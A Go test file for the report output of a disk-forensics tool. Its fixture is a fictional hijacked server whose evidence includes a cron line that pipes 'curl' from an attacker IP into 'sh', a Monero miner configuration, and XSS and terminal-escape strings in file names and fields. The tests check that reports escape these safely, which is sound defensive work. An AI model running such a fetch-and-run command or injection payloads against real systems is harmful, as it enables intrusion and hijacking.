package report

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"icecore/forensics"
	"icecore/forensics/model/modeltest"
	"icecore/forensics/text"
)

var update = flag.Bool("update", false, "write the golden files anew")

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	p := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(p, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(string(want), string(got)); d != "" {
		t.Errorf("%s (-want +got; -update writes it anew):\n%s", name, d)
	}
}

func offset(n int64) *int64 { return &n }

// intrusion is the analysis of a server that was hijacked. What comes from the image
// holds what a terminal or a browser would obey, escaped as an analysis has it.
func intrusion() *forensics.Analysis {
	src := func(path string, line int) *forensics.SourceInfo {
		return &forensics.SourceInfo{Volume: "p1", Path: path, Inode: 17, Line: line, Offset: 100, Length: 20, DiskOffset: offset(5000), State: "live", SHA256: strings.Repeat("ab", 32)}
	}
	const walletText = "4A1PHD6P8Nfc819wkGG4izEQhkmWZ4gPfcQcC8PD3PiMXPd5hmHjwP8MdiHnBWCxki22yogS76eYL2GMQvo1hDDiFxst7DL"
	orphan := src("", 0)
	orphan.State, orphan.Inode, orphan.Version = "orphan", 99, 7
	packed := src("/var/log/auth.log.2.gz", 12)
	packed.Member, packed.DiskOffset = "gzip", nil
	a := &forensics.Analysis{
		Schema:   forensics.Schema,
		Tool:     forensics.Tool{Name: "icecore", Version: "1.0", Rules: forensics.RulesInfo{YARA: "y", Sigma: "s"}},
		Image:    forensics.ImageInfo{Path: "snap shots/web'01.raw", Format: "qcow2", VirtualSize: 8 << 30, Files: []forensics.ImageFile{{Path: "snap shots/web'01.raw", Size: 1 << 30, SHA256: strings.Repeat("cd", 32)}}},
		Snapshot: forensics.SnapshotInfo{TakenAt: "2026-01-12T09:30:00.123456789Z", Source: "ext4 journal commit"},
		Volumes: []forensics.VolumeInfo{
			{ID: "p15", Scheme: "gpt", Offset: 1 << 20, Size: 124 << 20, Filesystem: "vfat", Reason: "a FAT filesystem (an EFI system partition?): not read by this version"},
			{ID: "p1", Scheme: "gpt", Offset: 128 << 20, Size: 7 << 30, Filesystem: "ext4", UUID: "u", Label: "root", Files: 27919, Journal: &forensics.JournalInfo{Replayed: true, Transactions: 20}},
		},
		System:  forensics.SystemInfo{Hostname: text.Escape("web\x1b[31m<b>01"), OS: "Debian GNU/Linux 12 (bookworm)", MachineID: "m", Timezone: "Asia/Shanghai"},
		Verdict: forensics.VerdictInfo{State: "compromised", Since: "2026-01-12T08:58:31Z", SinceInferred: "year, zone", Because: []string{"F-0001"}},
		Findings: []forensics.FindingInfo{
			{ID: "F-0001", Rule: "guessed_password", Engine: "analysis", Title: "Login of root from 203.0.113.77 after its password was guessed", Description: "640 failed logins, then one that was accepted.", Level: "critical", Techniques: []string{"T1110.001", "T1078"}, Phase: "initial-access", Time: "2026-01-12T08:58:31Z", TimeInferred: "year, zone", Records: []string{"R-000001"}, Source: packed, Excerpt: "Jan 12 16:58:31 web01 sshd[22001]: Accepted password for root from 203.0.113.77 port 41022 ssh2"},
			{ID: "F-0002", Rule: "XMRig_Binary", Engine: "yara", Title: "Program matches the YARA rule XMRig_Binary", Level: "critical", Phase: "mining", Time: "2026-01-12T09:00:01.5Z", Records: []string{"R-000002"}, Source: src("/tmp/.ICE-unix/.x/kswapd0", 0), Excerpt: "-o, --url=URL       URL of mining server"},
			{ID: "F-0003", Rule: "XMRig_Binary", Engine: "yara", Title: "Program matches the YARA rule XMRig_Binary", Level: "critical", Phase: "mining", Records: []string{"R-000002"}, Source: orphan},
			{ID: "F-0004", Rule: "cron_pipe_to_shell", Engine: "sigma", Title: "Cron Job Downloads and Executes Code", Level: "high", Techniques: []string{"T1053.003"}, Phase: "persistence", Time: "2026-01-12T09:02:00Z", Records: []string{"R-000003"}, Source: src(text.Escape("/etc/cron.d/\x1b[2J<script>alert(1)</script>\u202e汉字"), 1), Excerpt: text.Escape("* * * * * root curl -s http://203.0.113.77/\x1b]0;x\x07 | sh")},
			{ID: "F-0005", Rule: "file_immutable", Engine: "sigma", Title: "Immutable Attribute on Sensitive File", Level: "medium", Phase: "persistence", Records: []string{}, Source: src("/root/.ssh/authorized_keys", 0)},
			{ID: "F-0006", Rule: "guessing", Engine: "analysis", Title: "Passwords were guessed from 186 addresses", Level: "low", Phase: "initial-access"},
		},
		Records: []forensics.RecordInfo{
			{ID: "R-000001", Kind: "auth.login", Source: *packed, Fields: modeltest.Fields("auth.login", "user=root")},
			{ID: "R-000002", Kind: "miner.config", Source: *src("/tmp/.ICE-unix/.x/config.json", 0), Fields: modeltest.Fields("miner.config", "program=xmrig", "pool=stratum+ssl://pool.example.invalid:443", "host=pool.example.invalid", "port=443", "tls=yes", "user="+walletText, "wallet="+walletText, "coin=monero")},
			{ID: "R-000003", Kind: "cron.job", Source: *src("/etc/cron.d/x", 1), Fields: modeltest.Fields("cron.job", "command=curl \x1b[2J</td><script>alert(2)</script>")},
		},
		Story: []forensics.StoryInfo{
			{Time: "2026-01-12T08:58:31Z", Phase: "initial-access", Text: "Login of root from 203.0.113.77 after its password was guessed", Finding: "F-0001"},
			{Time: "2026-01-12T09:00:01.5Z", Phase: "mining", Text: "Program matches the YARA rule XMRig_Binary: /tmp/.ICE-unix/.x/kswapd0", Finding: "F-0002"},
			{Phase: "persistence", Text: "Immutable Attribute on Sensitive File: /root/.ssh/authorized_keys", Finding: "F-0005"},
		},
		Coverage: forensics.Coverage{Files: 23908, BytesScanned: 536649303, NotRead: []forensics.NotRead{
			{What: "volume p15 (vfat)", Why: "a FAT filesystem (an EFI system partition?): not read by this version"},
			{What: "volume p1, /var/lib/big", Why: "larger than the limit for one file: 30000000000 bytes, the limit is 21474836480"},
		}},
	}
	return a
}

// quiet is the analysis of a server on which nothing was found.
func quiet() *forensics.Analysis {
	a := intrusion()
	a.Verdict = forensics.VerdictInfo{State: "no-indicators", Because: []string{}}
	a.Findings, a.Story = a.Findings[5:], nil
	a.Records = a.Records[:1]
	return a
}

// unread is the analysis of a disk of which nothing could be read.
func unread() *forensics.Analysis {
	return &forensics.Analysis{
		Image: forensics.ImageInfo{Path: "disk.raw", Format: "raw"}, Verdict: forensics.VerdictInfo{State: "no-indicators"},
		Volumes:  []forensics.VolumeInfo{{ID: "p1", Filesystem: "ext4", Size: 1 << 30}},
		Coverage: forensics.Coverage{NotRead: []forensics.NotRead{{What: "content of all files, by YARA", Why: "icecore was built without cgo"}, {What: "volume p1, root directory", Why: "inode 2: corrupt: not a directory"}}},
	}
}

// suspect has findings that none of the questions but one is answered by.
func suspect() *forensics.Analysis {
	a := intrusion()
	a.Verdict = forensics.VerdictInfo{State: "suspicious"}
	a.Findings, a.Records, a.Story = a.Findings[4:5], nil, a.Story[2:]
	a.Coverage.NotRead = nil
	return a
}

func TestTerminalGolden(t *testing.T) {
	for name, a := range map[string]*forensics.Analysis{"compromised": intrusion(), "no-indicators": quiet(), "nothing-read": unread(), "suspicious": suspect()} {
		for _, width := range []int{80, 160} {
			var b bytes.Buffer
			if err := Terminal(&b, a, Options{Width: width}); err != nil {
				t.Fatal(err)
			}
			golden(t, fmt.Sprintf("%s-%d.txt", name, width), b.Bytes())
		}
	}
}

var ansi = regexp.MustCompile("\x1b\\[[0-9;]*m")

// Whatever the width, and with colours: no line is wider, nothing of the image
// reaches the terminal that it would obey, and the first screen holds the answers.
func TestTerminalFits(t *testing.T) {
	for name, a := range map[string]*forensics.Analysis{"compromised": intrusion(), "no-indicators": quiet(), "nothing-read": unread(), "suspicious": suspect()} {
		for width := 40; width <= 200; width += 3 {
			for _, color := range []bool{false, true} {
				var b bytes.Buffer
				if err := Terminal(&b, a, Options{Width: width, Color: color, All: true}); err != nil {
					t.Fatal(err)
				}
				out := b.String()
				if color {
					out = ansi.ReplaceAllString(out, "")
				}
				for _, l := range strings.Split(out, "\n") {
					if n := cellWidth(l); n > width && !strings.HasPrefix(l, "  icecore ") && len(strings.Fields(l)) > 1 && !strings.HasPrefix(strings.TrimLeft(l, " "), "curl ") {
						t.Errorf("%s: %d of %d columns: %s", name, n, width, l)
					}
					for _, r := range l {
						if !unicode.IsPrint(r) {
							t.Errorf("%s: %q in %q", name, r, l)
						}
					}
				}
				if first := strings.Count(out[:strings.Index(out, "\nFINDINGS\n")+1], "\n"); width >= 80 && first > 24 {
					t.Errorf("%s: the first screen has %d lines at width %d", name, first, width)
				}
			}
		}
	}
	var b bytes.Buffer
	if err := Terminal(&b, intrusion(), Options{Color: true}); err != nil || !ansi.Match(b.Bytes()) {
		t.Error("no colours where they were asked for")
	}
}

// The page holds every fact, loads nothing, and lets nothing of the image become a
// tag, an attribute or a script.
func TestHTMLGolden(t *testing.T) {
	var b bytes.Buffer
	p := &Page{Analysis: intrusion(), Made: "2026-02-01T00:00:00Z", Command: "icecore analyze -o '<case>' x", Events: 12345, Timeline: []Excerpt{{"2026-01-12 09:00:01", "modified", "high", "/tmp/<img src=x onerror=alert(3)>"}}}
	if err := HTML(&b, p); err != nil {
		t.Fatal(err)
	}
	golden(t, "compromised.html", b.Bytes())
	out := b.String()
	for _, bad := range []string{"<script", "<img", "onerror=alert(3)>", "javascript:", "<b>", "@import", "url(", "</td><script", "<case>"} {
		if strings.Contains(out, bad) {
			t.Errorf("the page holds %q", bad)
		}
	}
	for _, m := range regexp.MustCompile(`href="([^"]*)"`).FindAllStringSubmatch(out, -1) {
		if !strings.HasPrefix(m[1], "#") {
			t.Errorf("the page leads to %s", m[1])
		}
	}
	if m := regexp.MustCompile(`<[^>]*\b(?:src|srcset|on[a-z]+|action)=`).FindString(out); m != "" {
		t.Errorf("the page holds %q", m)
	}
	for _, r := range out {
		if r != '\n' && !unicode.IsPrint(r) {
			t.Errorf("the page holds %q", r)
		}
	}
	for _, want := range []string{"COMPROMISED", "F-0004", "pool.example.invalid:443 (TLS)", "4A1PHD6P8Nfc819wkGG4izEQhkmWZ4gPfcQcC8PD3PiMXPd5hmHjwP8MdiHnBWCxki22yogS76eYL2GMQvo1hDDiFxst7DL", "T1053.003", "larger than the limit for one file", "1 of 12,345 events"} {
		if !strings.Contains(out, want) {
			t.Errorf("the page does not hold %q", want)
		}
	}
	for _, a := range []*forensics.Analysis{quiet(), unread(), suspect()} {
		b.Reset()
		if err := HTML(&b, &Page{Analysis: a}); err != nil {
			t.Error(err)
		}
	}
}

// The command that is offered for a check is one word an argument, whatever the
// image is called.
func TestCheck(t *testing.T) {
	a := intrusion()
	for i, want := range []string{
		`icecore cat 'snap shots/web'\''01.raw' --volume p1 --inode 17 | zcat | tail -c +101 | head -c 20`,
		`icecore cat 'snap shots/web'\''01.raw' --volume p1 --inode 17 --offset 100 --length 20`,
		`icecore cat 'snap shots/web'\''01.raw' --volume p1 --inode 99@7 --offset 100 --length 20`,
	} {
		if got := check(a.Image.Path, a.Findings[i].Source); got != want {
			t.Errorf("got  %s\nwant %s", got, want)
		}
	}
}

func TestTable(t *testing.T) {
	rows := [][]string{{"a", "汉字漢字汉字漢字汉字漢字", "x\x1b[31my\nz"}, {"bb", "e\u0301e\u0301 👩‍👩‍👧 wide", strings.Repeat("long/path/", 12)}, {"", "", ""}}
	for width := 30; width < 120; width++ {
		var b bytes.Buffer
		if err := Table(&b, []string{"one", "two words here", "three"}, rows, width); err != nil {
			t.Fatal(err)
		}
		for _, l := range strings.Split(b.String(), "\n") {
			if cellWidth(l) > width {
				t.Errorf("%d of %d columns: %q", cellWidth(l), width, l)
			}
			if strings.ContainsAny(l, "\x1b\r") {
				t.Errorf("%q", l)
			}
		}
	}
}

func TestWrap(t *testing.T) {
	for _, c := range []struct {
		in    string
		width int
		want  string
	}{
		{"one two three", 8, "one two|three"},
		{"exactly8 x", 8, "exactly8|x"},
		{"/usr/share/doc/package", 12, "/usr/share/|doc/package"},
		{`aaaaaa\x1b\x1b`, 8, `aaaaaa|\x1b\x1b`},
		{`aaaaaaa\x1bb`, 8, `aaaaaaa|\x1bb`},
		{"汉字汉字", 4, "汉字|汉字"},
		{"", 10, ""},
		{"starts /tmp/x/kswapd0 now", 16, "starts /tmp/x/|kswapd0 now"},
	} {
		if got := strings.Join(wrap(c.in, c.width), "|"); got != c.want {
			t.Errorf("wrap(%q, %d) = %q, want %q", c.in, c.width, got, c.want)
		}
	}
}

func FuzzWrap(f *testing.F) {
	for _, s := range []string{"one two", `\x1b\x1b\x1b\x1b`, "汉字", "\xff\xfe", "e\u0301", "\u200d\u200d", "👩‍👩‍👧‍👦"} {
		f.Add(s, 7)
	}
	f.Fuzz(func(t *testing.T, s string, width int) {
		if width < 4 || width > 300 {
			return
		}
		s = text.Escape(s)
		lines := wrap(s, width)
		if got, want := strings.Join(strings.Fields(strings.Join(lines, "")), ""), strings.Join(strings.Fields(s), ""); got != want {
			t.Fatalf("wrap(%q, %d) loses something: %q", s, width, lines)
		}
		for _, l := range lines {
			if cellWidth(l) > width && len([]rune(l)) > 1 && len(whole(l)) != 1 {
				t.Errorf("wrap(%q, %d): %q has %d columns", s, width, l, cellWidth(l))
			}
		}
		if cellWidth(fit(s, width)) > width {
			t.Errorf("fit(%q, %d) = %q", s, width, fit(s, width))
		}
	})
}

func TestJSON(t *testing.T) {
	var b bytes.Buffer
	if err := JSON(&b, intrusion()); err != nil || !json.Valid(b.Bytes()) {
		t.Fatalf("%v %s", err, b.String())
	}
	if !strings.Contains(b.String(), `"schema": "icecore.analysis/1"`) || strings.ContainsAny(b.String(), "\x1b\x07") {
		t.Error(b.String())
	}
}

// What a full disk does is told.
func TestWriteErrors(t *testing.T) {
	if err := Terminal(full{}, intrusion(), Options{}); err == nil {
		t.Error("Terminal: no error")
	}
	if err := JSON(full{}, intrusion()); err == nil {
		t.Error("JSON: no error")
	}
	if err := HTML(full{}, &Page{Analysis: intrusion()}); err == nil {
		t.Error("HTML: no error")
	}
	if err := Table(full{}, []string{"a"}, [][]string{{"b"}}, 10); err == nil {
		t.Error("Table: no error")
	}
}

type full struct{}

func (full) Write([]byte) (int, error) { return 0, io.ErrShortWrite }
